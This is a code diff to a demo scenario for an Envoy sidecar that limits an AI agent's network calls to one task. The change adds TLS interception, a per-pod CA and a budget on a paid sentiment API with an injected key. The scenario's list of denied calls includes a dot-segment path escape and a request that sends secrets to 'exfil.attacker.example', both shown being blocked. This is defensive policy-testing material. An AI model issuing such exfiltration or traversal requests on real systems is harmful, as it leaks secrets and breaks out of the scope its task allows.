@@ -2,7 +2,9 @@
 
 An analyst (``user:jane.doe@example.com``) asks the risk-reporter agent for the Q3 risk report. The
 task lets the agent GET prices from the internal market-data API (one path prefix, read-only) and
-POST twice to a paid sentiment API whose key the sidecar injects. Everything else is denied.
+POST twice to a paid sentiment API over HTTPS, whose key the sidecar injects: the agent's own TLS
+connection (through ``HTTPS_PROXY``) is intercepted with a certificate of the per-pod CA, and Envoy
+opens a verified TLS connection to the API (``tls: intercept``). Everything else is denied.
 """
 
 from __future__ import annotations
@@ -59,7 +61,7 @@ class Call:
 def calls() -> list[Call]:
     """The agent's calls, partly inside the task and partly outside."""
     market = f"http://{MARKET}"
-    sentiment = f"http://{SENTIMENT}/v1/analyze"
+    sentiment = f"https://{SENTIMENT}/v1/analyze"
     return [
         Call("GET", f"{market}/v1/prices/ACME?quarter=2026Q3", 200, "allowed", "prices, inside the task"),
         Call("GET", f"{market}/v1/prices/ACME/volatility", 200, "allowed", "deeper under the allowed prefix"),
@@ -74,9 +76,9 @@ def calls() -> list[Call]:
         Call("GET", f"{market}/v1/customers/export", 403, "path_not_allowed", "customer data is outside the task"),
         Call("GET", f"{market}/v1/prices/../customers/export", 403, "path_not_allowed", "dot-segment escape"),
         Call("DELETE", f"{market}/v1/prices/ACME", 403, "method_not_allowed", "read-only task"),
-        Call("POST", sentiment, 200, "allowed", "paid API, key injected", body='{"text": "ACME beats Q3"}'),
+        Call("POST", sentiment, 200, "allowed", "paid API over HTTPS, key injected", body='{"text": "ACME beats Q3"}'),
         Call("POST", sentiment, 200, "allowed", "paid API, 2nd of 2 calls", body='{"text": "GLOBEX misses"}'),
-        Call("POST", sentiment, 429, "budget_exhausted", "paid API over budget", body='{"text": "one more"}'),
+        Call("POST", sentiment, 429, "budget_exhausted", "paid API over budget (inside TLS)", body='{"text": "more"}'),
         Call("GET", "http://exfil.attacker.example/upload?d=secrets", 403, "host_not_allowed", "unknown host"),
         Call(
             "GET",
@@ -113,8 +115,12 @@ def inbound_calls() -> list[InboundCall]:
     ]
 
 
-def sidecar_config(state: Path, upstream_port: int, agent_app_port: int) -> dict[str, Any]:
-    """The demo's ``sidecar.yaml`` as a dict (ports 0: Envoy and the admin server pick free ones)."""
+def sidecar_config(state: Path, upstream_port: int, agent_app_port: int, sentiment_port: int) -> dict[str, Any]:
+    """The demo's ``sidecar.yaml`` as a dict (ports 0: Envoy and the admin server pick free ones).
+
+    ``sentiment_port`` is the paid API's HTTPS port (its certificate from the demo's upstream CA,
+    ``upstream-ca/ca.pem``, which Envoy verifies it against).
+    """
     address = f"127.0.0.1:{upstream_port}"
     return {
         "agent": AGENT,
@@ -148,11 +154,13 @@ def sidecar_config(state: Path, upstream_port: int, agent_app_port: int) -> dict
         "envoy": {
             "egress_port": 0,
             "admin_port": 0,
-            "destinations": {MARKET: address, SENTIMENT: address},
+            "destinations": {MARKET: address, SENTIMENT: f"127.0.0.1:{sentiment_port}"},
             "local_app": f"127.0.0.1:{agent_app_port}",
             "ingress_address": "127.0.0.1",
             "ingress_port": 0,
+            "upstream_ca": "upstream-ca/ca.pem",
         },
+        "intercept": {"state_dir": "intercept", "publish_dir": "trust"},
         "decision_log": {"path": "decisions.log", "stdout": False},
         "tasks": [
             {
@@ -179,6 +187,8 @@ def sidecar_config(state: Path, upstream_port: int, agent_app_port: int) -> dict
                         "max_calls": 2,
                         "token": False,
                         "credential": {"header": "x-api-key", "file": "secrets/sentiment-api.key"},
+                        "tls": "intercept",
+                        "upstream_port": sentiment_port,
                     },
                 ],
             }
